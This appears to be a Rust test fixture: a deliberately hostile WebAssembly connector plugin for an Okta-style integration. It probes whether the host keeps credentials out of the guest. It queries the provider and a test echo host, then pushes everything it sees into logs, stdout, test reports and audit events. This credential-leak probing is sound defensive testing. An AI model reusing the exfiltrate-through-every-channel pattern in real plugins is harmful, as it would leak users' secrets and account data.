//! A hostile connector written directly against `wit/v0.2` (world
//! `plugin`: no `exchange` export). Everything it can see goes back out
//! through every channel it has, so a test can prove the host-side
//! exchange kept every credential out of the guest.

wit_bindgen::generate!({
    path: "../../../wit/v0.2",
    world: "ward:connector/plugin",
    generate_all,
});

use exports::ward::connector::connector::Guest;
use ward::connector::log::{Level, log};
use ward::connector::types::{
    Actor, ActorKind, AuditPage, AuthKind, Check, Error, Event, Instance, Outcome, TestReport,
    UserPage,
};

/// The probe connector (public so a native build counts it as used).
pub struct Probe;

fn value<'a>(instance: &'a Instance, name: &str) -> Option<&'a str> {
    instance
        .config
        .iter()
        .find(|e| e.name == name)
        .map(|e| e.value.as_str())
}

fn authorization(instance: &Instance) -> &'static str {
    match instance.auth {
        Some(AuthKind::Oauth2) => "Bearer {{secret:access_token}}",
        _ => "SSWS {{secret:api_token}}",
    }
}

include!("../../common/http_get.rs");

/// GET `authority` + `path` with the instance's auth header; returns the
/// response's status, headers and body as text, or what failed.
fn get(instance: &Instance, authority: &str, path: &str) -> String {
    match http_get(authorization(instance), authority, path) {
        Ok(got) => format!("status {}{} body={}", got.status, got.headers, got.body),
        Err(e) => e,
    }
}

/// Everything visible: the instance record, then the provider's and the
/// echo endpoint's answers.
fn everything(instance: &Instance) -> String {
    let domain = value(instance, "domain").unwrap_or("missing");
    let okta = format!("{domain}.okta.com");
    let seen = format!(
        "instance={:?} | me: {} | echo: {}",
        instance,
        get(instance, &okta, "/api/v1/users/me"),
        get(instance, "echo.ward.test", "/whoami"),
    );
    log(Level::Info, &seen);
    println!("{seen}");
    seen
}

/// The login in `/users/me`'s answer, as the principal.
fn login(seen: &str) -> Option<String> {
    let start = seen.find("\"login\":\"")? + "\"login\":\"".len();
    let end = seen[start..].find('"')?;
    Some(seen[start..start + end].to_string())
}

impl Guest for Probe {
    fn auth_url(instance: Instance, redirect_uri: String, state: String) -> Result<String, Error> {
        let domain = value(&instance, "domain").unwrap_or("missing");
        let client = value(&instance, "client_id").unwrap_or("missing");
        Ok(format!(
            "https://{domain}.okta.com/oauth2/v1/authorize?client_id={client}&response_type=code&scope=okta.logs.read%20okta.users.read%20offline_access&redirect_uri={redirect_uri}&state={state}"
        ))
    }

    fn test(instance: Instance) -> Result<TestReport, Error> {
        let seen = everything(&instance);
        Ok(TestReport {
            principal: login(&seen),
            checks: vec![Check {
                name: format!("seen {seen}").chars().take(4000).collect(),
                ok: true,
                message: seen.chars().take(4000).collect(),
            }],
            account_name: Some(seen.chars().take(200).collect()),
        })
    }

    fn fetch_audit(
        instance: Instance,
        since: i64,
        _cursor: Option<String>,
    ) -> Result<AuditPage, Error> {
        let seen = everything(&instance);
        let raw = serde_json::json!({ "seen": seen }).to_string();
        Ok(AuditPage {
            events: vec![Event {
                id: "probe-1".into(),
                time: since.max(1_700_000_000_000),
                action: "probe.seen".into(),
                actor: Actor {
                    id: None,
                    kind: ActorKind::Unknown,
                    name: Some(seen.chars().take(500).collect()),
                    email: None,
                },
                targets: Vec::new(),
                ip: None,
                user_agent: None,
                outcome: Outcome::Unknown,
                raw,
            }],
            cursor: seen.chars().take(1000).collect(),
            more: false,
        })
    }

    fn fetch_users(instance: Instance, _cursor: Option<String>) -> Result<UserPage, Error> {
        let _ = everything(&instance);
        Ok(UserPage {
            users: Vec::new(),
            cursor: None,
            more: false,
        })
    }
}

/// The component's exports; the generated glue is `unsafe` by nature.
#[cfg(target_arch = "wasm32")]
#[allow(unsafe_code)]
mod exported {
    use super::Probe;
    crate::export!(Probe with_types_in crate);
}

// The manifest rides in the component, as the SDK's macro does it.
#[cfg(target_arch = "wasm32")]
#[allow(unsafe_code)]
#[unsafe(link_section = "ward-manifest")]
#[used]
static WARD_MANIFEST: [u8; include_bytes!("../ward.toml").len()] = *include_bytes!("../ward.toml");
